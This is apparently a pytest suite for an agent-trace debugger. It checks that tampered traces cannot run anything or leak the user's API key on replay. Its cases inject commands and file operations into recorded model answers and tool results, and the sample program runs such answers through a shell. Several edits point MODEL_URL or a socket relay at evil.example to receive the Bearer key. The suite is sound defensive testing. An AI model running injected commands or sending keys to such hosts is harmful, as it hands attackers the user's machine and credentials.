"""Traces, cassettes and sibling files that somebody has edited: nothing runs, is written or is sent without a question that shows it.

The program asks a model what to do and does it. Each case edits a trace of a genuine run of it, line by line, so that the
lines that stay keep their valid signatures.
"""

from __future__ import annotations

import gzip
import json
import os
import re
import shutil
import subprocess
import sys
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import orjson
import pexpect
import pytest

from namel3ss_debug.traces import signing

APP = """
import json, os, socket, sqlite3, subprocess, sys
from urllib.request import Request, urlopen
from namel3ss_debug.hooks import trace_tool_call

KEY = {"Authorization": "Bearer " + os.environ.get("OPENAI_API_KEY", "")}

@trace_tool_call
def settings(name):
    return {"name": name, "server": "none", "relay": "none"}

def ask(base, text):
    body = json.dumps({"model": "small", "messages": [{"role": "user", "content": text}]}).encode()
    headers = {"Content-Type": "application/json", **KEY}
    answer = json.load(urlopen(Request(base + "/v1/chat/completions", body, headers)))
    return answer["choices"][0]["message"]["content"]

def act(what, value):
    if what == "run":
        print(subprocess.run(value, shell=True, capture_output=True, text=True).stdout)
    elif what == "system":
        os.system(value)
    elif what == "spawn":
        os.waitpid(os.posix_spawn("/usr/bin/env", value, os.environ), 0)
    elif what == "write":
        with open(value, "w") as file:
            file.write("written")
    elif what == "remove":
        os.remove(value)
    elif what == "rename":
        os.rename(*value)
    elif what == "database":
        with sqlite3.connect(value) as base:
            base.execute("create table kept (value)")
    elif what == "folder":
        os.mkdir(value)
    elif what == "fetch":
        urlopen(Request(value, headers=KEY))
    elif what == "socket":
        socket.create_connection(tuple(value), timeout=5).send(KEY["Authorization"].encode())

def main(base):
    for what, value in json.loads(ask(base, "plan")).items():
        act(what, value)
    found = settings("server")
    said = ask(base if found["server"] == "none" else found["server"], "end")
    if found["relay"] != "none":
        act("socket", found["relay"])
    return said

if __name__ == "__main__":
    typed = sys.stdin.readline().strip()
    base = os.environ.get("MODEL_URL") or ""
    print(main(typed or "".join(sys.argv[1:2]) or base))
"""
CHILD = """
from namel3ss_debug.hooks import trace_tool_call

@trace_tool_call
def look(what):
    return what

print(look("child"))
"""
TEST = """
import os
import app, pytest

@pytest.mark.agent_trace("kept.jsonl")
def test_app(agent_trace):
    assert app.main(os.environ["MODEL_URL"]) == "done"
"""
PLAN = {"run": "echo hi", "write": "notes.txt"}
CANARY = "canary"

Files = dict[str, list[str]]
"""The lines of each file of a trace, without their line feeds."""


class Server:
    """A server that answers like a model, and keeps the keys that it was sent."""

    def __init__(self, plan):
        self.keys = []
        server = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                asked = body["messages"][0]["content"]
                text = json.dumps(plan) if asked == "plan" else "done"
                self.reply({"choices": [{"index": 0, "message": {"role": "assistant", "content": text}}]})

            def do_GET(self):
                self.reply({})

            def reply(self, answer):
                server.keys.append(self.headers.get("Authorization"))
                content = json.dumps(answer).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)

            def log_message(self, *_):
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()

    def close(self):
        """Stop answering."""
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


@pytest.fixture(scope="module")
def model():
    """The model of the user."""
    server = Server(PLAN)
    yield server
    server.close()


@pytest.fixture
def evil():
    """The server of somebody else."""
    server = Server({})
    yield server
    server.close()


def environment(model, **more):
    """The environment of the user, who has a key."""
    return {**os.environ, "MODEL_URL": model.url, "OPENAI_API_KEY": "sk-of-the-user", **more}


def debug(folder, variables, *words, stdin="\n"):
    """Run a command of the debugger as a process of its own, without a terminal."""
    return subprocess.run(
        [sys.executable, "-m", "namel3ss_debug", *map(str, words)],
        cwd=folder,
        env=variables,
        input=stdin,
        text=True,
        capture_output=True,
        timeout=120,
        check=False,
    )


def run_test(folder, variables):
    """Run the test of the program on its committed trace."""
    words = [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "test_app.py"]
    return subprocess.run(
        words, cwd=folder, env=variables, text=True, capture_output=True, timeout=120, check=False
    )


@pytest.fixture(scope="module")
def genuine(tmp_path_factory, own_environment, model):
    """The program, a trace of it, one of another run of it, and a trace of its test."""
    folder = tmp_path_factory.mktemp("genuine") / "project"
    for place in (folder, folder / "other", folder / "tests"):
        place.mkdir()
        (place / "app.py").write_text(APP)
        (place / "child.py").write_text(CHILD)
        (place / "pyproject.toml").write_text("")
    for place in (folder, folder / "other"):
        done = debug(place, environment(model), "trace", "-o", "run.jsonl", "app.py")
        assert (done.returncode, done.stdout) == (0, "hi\n\ndone\n"), done.stderr
    (folder / "tests" / "test_app.py").write_text(TEST)
    # What is written into the temporary folder of the system is not held by a trace.
    scratch = made(tmp_path_factory.mktemp("scratch"))
    done = run_test(folder / "tests", environment(model, TMPDIR=str(scratch)))
    assert done.returncode == 0, done.stdout
    return folder


@pytest.fixture
def project(genuine, tmp_path):
    """A copy of the folder, outside of the temporary folder of the programs, as if it had been recorded there."""
    folder = tmp_path.resolve() / "project"
    shutil.copytree(genuine, folder)
    (folder / "notes.txt").unlink()
    for place in (folder, folder / "other"):
        path = place / "run.jsonl"
        lines = [orjson.loads(line) for line in path.read_bytes().splitlines()]
        lines[0]["metadata"]["cwd"] = str(place)
        path.write_bytes("\n".join(sign_again(lines)).encode() + b"\n")
    return folder


def sign_again(events, process=0, key=None):
    """The lines of events, signed with the user's key, or with another one."""
    key = key or signing.load_key()
    sign = signing.line_signer(signing.derive_key(key, events[0]["execution_id"]), process, 0)
    for event in events:
        event.pop("mac", None)
    return [sign(orjson.dumps(event) + b"\n").decode()[:-1] for event in events]


def read(path):
    """The lines of a file."""
    return path.read_text().splitlines()


def find(lines, event_type, number=0):
    """Return the index of an event of a type."""
    return [index for index, line in enumerate(lines) if f'"event_type":"{event_type}"' in line][number]


def answer(files: Files, plan: dict[str, object]) -> None:
    """Edit what the model answers first."""
    lines = files["run.jsonl"]
    index = find(lines, "llm_call_end")
    for times in (0, 1, 2, 3):  # as text, as JSON in JSON, and so on
        old, new = json.dumps(PLAN), json.dumps(plan)
        for _ in range(times):
            old, new = json.dumps(old)[1:-1], json.dumps(new)[1:-1]
        lines[index] = lines[index].replace(old, new)


def unsigned_process(files: Files, **metadata: object) -> None:
    """Add a file with the first line of another process, which holds no `commands`."""
    start = orjson.loads(files["run.jsonl"][0])
    start.pop("mac", None)
    start["event_id"], start["metadata"] = "p1.1", {"process": 1, "segment": 0, "format": 2, **metadata}
    files["run.p1.jsonl"] = [orjson.dumps(start).decode()]


def command_is(files: Files, command: str, output: str = "hi\n") -> None:
    """Edit the recorded command, so that it is the one of the answer."""
    lines = files["run.jsonl"]
    start, end = find(lines, "command_start"), find(lines, "command_end")
    lines[start] = lines[start].replace("echo hi", command)
    lines[end] = lines[end].replace("hi\\n", output)


# --- traces that the user recorded, and somebody edited


def _answer(**plan: object) -> Callable[[Files, Path], None]:
    return lambda files, _folder: answer(files, plan)


def _with_process(**plan: object) -> Callable[[Files, Path], None]:
    def edit(files: Files, _folder: Path) -> None:
        answer(files, plan)
        unsigned_process(files)

    return edit


def _with_second_start(files: Files, _folder: Path) -> None:
    answer(files, {"run": f"touch {CANARY}"})
    start = orjson.loads(files["run.jsonl"][0])
    start["metadata"] = {"process": 1}
    files["run.jsonl"].append(orjson.dumps(start).decode())


def _with_command(files: Files, _folder: Path) -> None:
    answer(files, {"run": f"touch {CANARY}"})
    command_is(files, f"touch {CANARY}")


def _starts_again(files: Files, _folder: Path) -> None:
    """The trace pretends that the command has recorded itself, so that it starts again."""
    _with_command(files, _folder)
    parent = orjson.loads(files["run.jsonl"][find(files["run.jsonl"], "command_start")])["event_id"]
    unsigned_process(files)
    start = orjson.loads(files["run.p1.jsonl"][0])
    start["parent_event_id"] = parent
    tool = {**start, "event_type": "tool_call_start", "event_id": "p1.2", "seq": 1, "component": "tool"}
    tool |= {"component_name": "look", "parent_event_id": parent, "inputs": {"arguments": {"what": "child"}}}
    files["run.p1.jsonl"] = [orjson.dumps(each).decode() for each in (start, tool)]


def _tool_result(files: Files, _folder: Path) -> None:
    lines = files["run.jsonl"]
    index = find(lines, "tool_call_end")
    lines[index] = lines[index].replace('"server":"none"', '"server":"http://127.0.0.1:9"')


def _last_answer_first(files: Files, _folder: Path) -> None:
    lines = files["run.jsonl"]
    first, second = find(lines, "llm_call_end"), find(lines, "llm_call_end", 1)
    parent, other = (orjson.loads(lines[index])["parent_event_id"] for index in (first, second))
    lines[first] = lines[first].replace(f'"parent_event_id":"{parent}"', f'"parent_event_id":"{other}"')
    lines[second] = lines[second].replace(f'"parent_event_id":"{other}"', f'"parent_event_id":"{parent}"')


def _answer_twice(files: Files, _folder: Path) -> None:
    lines = files["run.jsonl"]
    lines.append(lines[find(lines, "llm_call_end")])


def _of_other_run(files: Files, folder: Path) -> None:
    other = read(folder / "other" / "run.jsonl")
    files["run.jsonl"][find(files["run.jsonl"], "llm_call_end")] = other[find(other, "llm_call_end")]


def _process_of_other_run(files: Files, folder: Path) -> None:
    """A signed file of another run, under the id of this one."""
    execution = orjson.loads(files["run.jsonl"][0])["execution_id"]
    other = read(folder / "other" / "run.jsonl")
    files["run.p1.jsonl"] = [
        re.sub('"execution_id":"[0-9a-f]+"', f'"execution_id":"{execution}"', each) for each in other
    ]


def _copied_mac(files: Files, _folder: Path) -> None:
    lines = files["run.jsonl"]
    mac = orjson.loads(lines[0])["mac"]
    answer(files, {"run": f"touch {CANARY}"})
    index = find(lines, "llm_call_end")
    lines[index] = re.sub('"mac":"[0-9a-f]+"', f'"mac":"{mac}"', lines[index])


def _without_line_feed(files: Files, _folder: Path) -> None:
    """A second answer to the same request, on a last line that looks torn."""
    lines = list(files["run.jsonl"])
    answer(files, {"run": f"touch {CANARY}"})
    edited = files["run.jsonl"][find(lines, "llm_call_end")]
    files["run.jsonl"] = [*lines, "LAST" + edited]


def _damaged(files: Files, _folder: Path) -> None:
    lines = list(files["run.jsonl"])
    answer(files, {"run": f"touch {CANARY}"})
    index = find(lines, "llm_call_end")
    lines[index] = files["run.jsonl"][index].replace('"duration_ms":', '"duration_ms":NaN,"x":')
    files["run.jsonl"] = lines


def _second_segment(files: Files, _folder: Path) -> None:
    lines = list(files["run.jsonl"])
    answer(files, {"run": f"touch {CANARY}"})
    index = find(lines, "llm_call_end")
    files["run.s1.jsonl"] = [files["run.jsonl"][index]]
    files["run.jsonl"] = lines[:index] + lines[index + 1 :]


def _packed(files: Files, folder: Path) -> None:
    answer(files, {"run": f"touch {CANARY}"})
    content = "".join(f"{line}\n" for line in files.pop("run.jsonl")).encode()
    (folder / "run.jsonl").unlink()
    (folder / "run.jsonl.gz").write_bytes(gzip.compress(content))


def _start(**metadata: object) -> Callable[[Files, Path], None]:
    def edit(files: Files, _folder: Path) -> None:
        start = orjson.loads(files["run.jsonl"][0])
        start["metadata"] |= metadata
        files["run.jsonl"][0] = orjson.dumps(start).decode()

    return edit


def _variable(files: Files, _folder: Path) -> None:
    lines = files["run.jsonl"]
    for index, line in enumerate(lines):
        lines[index] = re.sub(r'("MODEL_URL":\{[^}]*"value":)"[^"]*"', r'\1"http://evil.example"', line)


def _unsigned(files: Files, _folder: Path) -> None:
    answer(files, {"run": f"touch {CANARY}"})
    for name, lines in files.items():
        files[name] = [re.sub(r',"mac":"[0-9a-f]+"\}', "}", line) for line in lines]


def _of_other_user(files: Files, _folder: Path) -> None:
    answer(files, {"run": f"touch {CANARY}"})
    files["run.jsonl"] = sign_again([orjson.loads(line) for line in files["run.jsonl"]], key=b"k" * 32)


def _unsigned_without_commands(files: Files, folder: Path) -> None:
    _unsigned(files, folder)
    unsigned_process(files)


TOUCH = f"touch {CANARY}"
EDITED: dict[str, Callable[[Files, Path], None]] = {
    "an answer that names a command": _answer(run=TOUCH),
    "the same with a process that holds no commands": _with_process(run=TOUCH),
    "the same with a second first line": _with_second_start,
    "an answer that is given to a shell": _answer(system=TOUCH),
    "an answer that is started past the seams": _answer(spawn=["env", "touch", CANARY]),
    "an answer that names a file to write": _answer(write=CANARY),
    "the same with a process that holds no commands, written": _with_process(write=CANARY),
    "an answer that names a file to remove": _answer(remove="child.py"),
    "an answer that renames a file": _answer(rename=["child.py", CANARY]),
    "an answer that names a database": _answer(database=CANARY),
    "an answer that names an address": _answer(fetch="http://127.0.0.1:9/"),
    "an answer and the command that it names": _with_command,
    "a command that seems to have recorded itself": _starts_again,
    "the result of a tool": _tool_result,
    "answers in another order": _last_answer_first,
    "an answer twice": _answer_twice,
    "an answer of another run": _of_other_run,
    "a process of another run": _process_of_other_run,
    "an answer with the signature of another line": _copied_mac,
    "an answer on a last line without a line feed": _without_line_feed,
    "an answer on a damaged line": _damaged,
    "an answer in a second segment": _second_segment,
    "a compressed trace": _packed,
    "another program": _start(target="child.py", argv=["child.py"]),
    "another argument": _start(argv=["app.py", "http://127.0.0.1:9"]),
    "another setting": _start(settings={"redact": False}),
    "another variable": _variable,
    "no signatures": _unsigned,
    "no signatures, and a process that holds no commands": _unsigned_without_commands,
    "the signatures of another user": _of_other_user,
}
"""What somebody has edited."""


def write(folder, files):
    """Write the lines of a trace; one that begins with LAST has no line feed."""
    for name, lines in files.items():
        text = "".join(f"{line}\n" for line in lines)
        if lines[-1].startswith("LAST"):
            text = "".join(f"{line}\n" for line in lines[:-1]) + lines[-1].removeprefix("LAST")
        (folder / name).write_text(text)


def edit(folder, case, name="run.jsonl"):
    """Edit the trace of a folder; returns its first file."""
    files = {"run.jsonl": read(folder / name)}
    case(files, folder)
    if name != "run.jsonl" and "run.jsonl" in files:
        files[name] = files.pop("run.jsonl")
    write(folder, files)
    return next(each for each in (folder / name, folder / f"{name}.gz") if each.exists())


def state(folder):
    """The files of a folder, with their contents, without traces."""
    return {
        path.name: path.read_bytes()
        for path in folder.iterdir()
        if path.is_file() and ".jsonl" not in path.name
    }


@pytest.mark.parametrize("case", EDITED)
def test_an_edited_trace_asks_before_anything_happens(run, project, monkeypatch, case):
    """Without a terminal to ask on, one line says what was changed and what would start, and the status is 2."""
    monkeypatch.chdir(project)
    path = edit(project, EDITED[case])
    before = state(project)
    started = []
    monkeypatch.setattr(subprocess.Popen, "__init__", lambda _self, words, **_more: started.append(words))
    result = run("rerun", path)
    assert result.exit_code == 2, result.output
    (line,) = result.stderr.strip().splitlines()
    assert "is not a trace of yours" in line or "is not as you recorded it" in line
    assert "--trust" in line
    assert started == []
    assert state(project) == before


def test_a_program_that_the_user_names_gets_no_edited_answer_without_a_question(run, project, monkeypatch):
    """The line names that program, because the answers are for it."""
    monkeypatch.chdir(project)
    path = edit(project, _answer(write=CANARY))
    result = run("rerun", path, "--", "app.py", "word")
    assert result.exit_code == 2
    assert "It would start app.py word in" in result.stderr
    assert not (project / CANARY).exists()


def _missing(index: int) -> Callable[[Files, Path], None]:
    def edit(files: Files, _folder: Path) -> None:
        del files["run.jsonl"][index:]

    return edit


def _killed(files: Files, _folder: Path) -> None:
    files["run.jsonl"][-1] = "LAST" + files["run.jsonl"][-1][:40]


def test_ones_own_trace_runs_without_a_question(project, model):
    """So does one of a run that was killed: a torn last line holds nothing."""
    debug(project, environment(model), "trace", "-o", "own.jsonl", "app.py")
    again = debug(project, environment(model), "rerun", "own.jsonl")
    assert (again.returncode, again.stdout) == (0, "hi\n\ndone\n"), again.stderr
    edit(project, _killed, "own.jsonl")
    again = debug(project, environment(model), "rerun", "own.jsonl")
    assert again.stdout == "hi\n\ndone\n", again.stderr
    assert "trust" not in again.stderr


def test_what_was_removed_from_ones_own_trace_grants_nothing(project, model):
    """The answers that are left are given without a question, and the first call without one ends the run."""
    lines = read(project / "run.jsonl")
    edit(project, _missing(find(lines, "command_start")))
    again = debug(project, environment(model), "rerun", "run.jsonl")
    assert again.returncode in (1, 2)
    assert again.stdout == ""
    assert not (project / "notes.txt").exists()
    assert "runs echo, and the trace holds no answer" in " ".join(again.stderr.split())


# --- traces that the user allowed


ALLOWED = {
    "an answer that names a command": _answer(run=TOUCH),
    "the same with a process that holds no commands": _with_process(run=TOUCH),
    "no signatures, and a process that holds no commands": _unsigned_without_commands,
    "an answer that is given to a shell": _answer(system=TOUCH),
}
"""Traces whose program runs with consent, and asks for a command that they do not hold."""


@pytest.mark.parametrize("case", ALLOWED)
def test_a_command_that_a_trace_does_not_hold_is_refused_with_consent_too(project, model, case):
    """The user allowed what the trace holds, and no command that its answers name."""
    path = edit(project, ALLOWED[case])
    again = debug(project, environment(model), "rerun", path, "--trust")
    assert again.returncode in (1, 2)
    assert "the trace holds no answer for this call" in " ".join(again.stderr.split())
    assert not (project / CANARY).exists()


def _base_in_variable(files: Files, url: str) -> None:
    lines = files["run.jsonl"]
    changed = [re.sub(r'("MODEL_URL":\{[^}]*"value":)"[^"]*"', rf'\1"{url}"', line) for line in lines]
    assert changed != lines
    files["run.jsonl"] = changed


def _base_in_argument(files: Files, url: str) -> None:
    _start(argv=["app.py", url])(files, Path())


def _base_in_stdin(files: Files, url: str) -> None:
    lines = files["run.jsonl"]
    index = next(number for number, line in enumerate(lines) if '"stdin":{' in line)
    event = orjson.loads(lines[index])
    event["metadata"]["stdin"] = {"text": f"{url}\n"}
    lines[index] = orjson.dumps(event).decode()


def _base_in_result(files: Files, url: str) -> None:
    lines = files["run.jsonl"]
    index = find(lines, "tool_call_end")
    lines[index] = lines[index].replace('"server":"none"', f'"server":{json.dumps(url)}')


def _address_in_answer(files: Files, url: str) -> None:
    answer(files, {"fetch": url})


def _socket_in_argument(files: Files, _url: str) -> None:
    lines = files["run.jsonl"]
    index = find(lines, "tool_call_end")
    lines[index] = lines[index].replace('"relay":"none"', '"relay":["evil.example",80]')
    _start(argv=["app.py", "", "evil.example"])(files, Path())


ADDRESSES = {
    "in a variable": (_base_in_variable, 2),
    "in an argument": (_base_in_argument, 2),
    "in the standard input": (_base_in_stdin, 2),
    "in the result of a tool": (_base_in_result, 2),
    "in an answer": (_address_in_answer, 1),
    "behind a socket": (_socket_in_argument, 2),
}
"""Where a trace names the server of somebody else, and before which answer of the model the run becomes live."""


@pytest.mark.parametrize("case", ADDRESSES)
def test_a_live_part_never_sends_the_users_key_to_an_address_of_the_trace(project, model, evil, case):
    """Neither with `--trust`; the user's own server is called."""
    change, live = ADDRESSES[case]
    model.keys.clear()
    edit(project, lambda files, _folder: change(files, evil.url))
    lines = read(project / "run.jsonl")
    number = find(lines, "llm_call_start", live - 1) + 1 if live == 2 else find(lines, "llm_call_end") + 2
    again = debug(
        project, environment(model), "rerun", "run.jsonl", "--trust", "--live-from", number, "--yes"
    )
    assert evil.keys == [], again.stderr
    if case == "in a variable":
        assert model.keys == ["Bearer sk-of-the-user"], again.stderr
        assert "a trace does not set MODEL_URL" in " ".join(again.stderr.split())
    else:
        shown = " ".join(again.stderr.split())
        assert re.search("not yours,? supplies (this|that) address", shown), again.stderr


# --- the question


def ask(project, model, *words):
    """Begin a re-run on a terminal."""
    variables = {**environment(model), "TERM": "dumb", "COLUMNS": "80"}
    command = ["-m", "namel3ss_debug", "rerun", "run.jsonl", *words]
    return pexpect.spawn(
        sys.executable, command, cwd=str(project), env=variables, encoding="utf-8", timeout=60
    )


def shown_by(child, answer):
    """Answer the question, and return what was shown before it, without its line ends."""
    child.expect_exact("Run it?")
    text = child.before
    child.sendline(answer)
    child.expect(pexpect.EOF)
    child.close()
    return re.sub(r"\r\n {15}", "", text)


def test_the_question_shows_the_whole_command_line_and_every_value(project, model):
    """In lines that the terminal does not cut."""
    words = [f"--option-{number}={'x' * 60}" for number in range(40)]
    edit(
        project,
        lambda files, folder: (_start(argv=["app.py", *words])(files, folder), _variable(files, folder)),
    )
    shown = shown_by(ask(project, model), "n")
    assert f"app.py {' '.join(words)}" in shown
    assert "MODEL_URL=http://evil.example" in shown
    assert not (project / "notes.txt").exists()


def test_the_question_shows_what_was_edited_and_is_asked_once(project, model):
    """The line, the event and its content; the answer holds for this content."""
    edit(project, _answer(write=CANARY))
    shown = shown_by(ask(project, model), "y")
    assert re.search(r"run.jsonl line \d+ changed: llm_call_end", shown)
    assert CANARY in shown
    assert "Did you edit it?" in shown
    assert (project / CANARY).exists()
    (project / CANARY).unlink()
    child = ask(project, model)
    child.expect(pexpect.EOF)
    assert "Run it?" not in child.before
    assert (project / CANARY).exists()
    edit(project, _tool_result)
    assert "tool_call_end" in shown_by(ask(project, model), "n")


def test_the_question_shows_commands_that_start_again(project, model):
    """A command that the trace says has recorded itself would be started."""
    edit(project, _starts_again)
    shown = shown_by(ask(project, model), "n")
    assert f"touch {CANARY}" in shown
    assert not (project / CANARY).exists()


@pytest.mark.parametrize("name", ["program", "variable MODEL_URL"])
def test_a_value_that_is_too_long_to_read_is_refused_by_its_name(project, model, name):
    """It could hide anything behind what fits on a screen."""
    if name == "program":
        edit(project, _start(argv=["app.py", "x" * 5000]))
    else:
        edit(project, lambda files, _folder: _base_in_variable(files, "http://" + "x" * 5000))
    child = ask(project, model)
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 2
    assert f"the {name} has more than 4096 characters" in " ".join(child.before.split())


# --- committed traces of tests


CASSETTES = {
    "an answer that names a command": _answer(run=TOUCH),
    "an answer that is given to a shell": _answer(system=TOUCH),
    "an answer that is started past the seams": _answer(spawn=["env", "touch", CANARY]),
    "an answer that names a file to write": _answer(write=CANARY),
    "an answer that names a file of code": _answer(write="app.py"),
    "an answer that names a file to remove": _answer(remove="child.py"),
    "an answer that renames a file": _answer(rename=["child.py", CANARY]),
    "an answer that names a database": _answer(database=CANARY),
    "an answer that names a folder": _answer(folder=CANARY),
    "an answer with a process that holds no commands": _with_process(run=TOUCH),
    "a command that seems to have recorded itself": _starts_again,
}
"""What somebody has edited in a committed trace, which no key of this machine signed."""


@pytest.mark.parametrize("case", CASSETTES)
def test_a_committed_trace_lets_nothing_happen_that_it_does_not_hold(project, model, case):
    """The test fails, and what it refused has not happened."""
    folder = project / "tests"
    outside = project.parent / "elsewhere"
    edit(
        folder, lambda files, place: (_unsigned_as_it_is(files), CASSETTES[case](files, place)), "kept.jsonl"
    )
    before = state(folder)
    done = run_test(folder, environment(model, TMPDIR=str(made(outside))))
    assert done.returncode == 1, done.stdout
    assert state(folder) == before


def _unsigned_as_it_is(files):
    for name, lines in files.items():
        files[name] = [re.sub(r',"mac":"[0-9a-f]+"\}', "}", line) for line in lines]


def made(folder):
    """A folder that is there."""
    folder.mkdir(exist_ok=True)
    return folder


def test_a_committed_trace_answers_without_a_question(project, model):
    """What the test wrote when it was recorded, it writes again."""
    folder = project / "tests"
    (folder / "notes.txt").unlink()
    edit(folder, lambda files, _place: _unsigned_as_it_is(files), "kept.jsonl")
    model.keys.clear()
    done = run_test(folder, environment(model, TMPDIR=str(made(project.parent / "elsewhere"))))
    assert done.returncode == 0, done.stdout
    assert (folder / "notes.txt").read_text() == "written"
    assert model.keys == []
